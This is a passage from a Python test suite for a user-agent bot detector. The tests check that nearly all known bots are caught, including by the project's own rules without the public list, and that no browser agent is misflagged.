        return json.loads((DATA / name).read_text())

    def test_nearly_all_bots_are_found(self):
        agents = self.agents("bots.json")
        assert sum(map(is_bot, agents)) / len(agents) >= 0.99  # measured 1.0

    def test_nearly_all_bots_are_found_without_the_public_lists(self):
        """The list comes from one of the libraries; our own rules must do on agents that it has not seen."""
        agents = self.agents("bots.json")
        own_rules = [applies for applies, _reason in bots.RULES if applies is not bots.is_on_a_public_list]
        assert sum(any(rule(agent) for rule in own_rules) for agent in agents) / len(agents) >= 0.99  # measured 0.998

    def test_no_browser_is_lost(self):
        assert [agent for agent in self.agents("browsers.json") if is_bot(agent)] == []
